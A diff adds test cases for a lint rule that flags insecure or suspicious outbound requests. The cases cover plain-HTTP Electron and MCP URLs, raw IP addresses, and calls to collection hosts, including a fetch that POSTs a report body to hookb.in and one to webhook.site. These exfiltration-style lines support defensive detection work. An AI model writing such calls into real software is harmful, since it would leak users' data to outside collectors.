@@ -3,6 +3,7 @@ import { ruleTester } from '../tester.ts';
 
 await ruleTester(rule, {
   valid: [
+    { code: 'import { BrowserWindow } from "electron"; const win = new BrowserWindow(); win.loadURL("http://localhost:5173"); win.loadURL(`file://${__dirname}/index.html`); win.loadURL(process.env.VITE_DEV_SERVER_URL); win.loadURL("https://app.example-service.com/");' },
     { code: 'import axios from "axios"; export const api = axios.create({ baseURL: process.env.API ?? "https://api.example.com" }); export const lan = axios.create({ baseURL: "http://192.168.1.4:8080" });' },
     { code: 'document.querySelector("form").action = "/login";', options: { strict: true } },
     { code: 'state.action = "https://sign-in.example-service.com/";', options: { strict: true } },
@@ -102,6 +103,9 @@ await ruleTester(rule, {
     { code: `const dsn = process.env.SENTRY_DSN; Sentry.init({ dsn, environment: 'x', tunnel: '/monitoring' }); import * as Sentry from '@sentry/browser';` },
   ],
   invalid: [
+    { code: 'import { BrowserWindow } from "electron"; let win; function open() { win = new BrowserWindow(); win.loadURL("http://app.example-service.com/"); }', errors: [{ messageId: 'plain' }] },
+    { code: 'import { HttpClient } from "@angular/common/http"; class Api { constructor(private http: HttpClient) {} load() { return this.http.get("http://45.33.32.1/a"); } }', filename: 'src/api.ts', errors: [{ messageId: 'address' }] },
+    { code: 'fetch("https://hookb.in/abc", { method: "POST", body: report });', errors: [{ messageId: 'collection' }] },
     { code: 'fetch("https://webhook.site./x");', errors: [{ messageId: 'collection', data: { label: 'fetch()', host: 'webhook.site' } }] },
     { code: 'import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js"; new StreamableHTTPClientTransport(new URL("http://mcp.example-service.com/mcp"));', errors: [{ messageId: 'plain', data: { label: 'new StreamableHTTPClientTransport()', host: 'mcp.example-service.com' } }] },
     { code: 'import axios from "axios"; export const api = axios.create({ baseURL: "http://34.118.22.9:8081" });', errors: [{ messageId: 'address' }] },
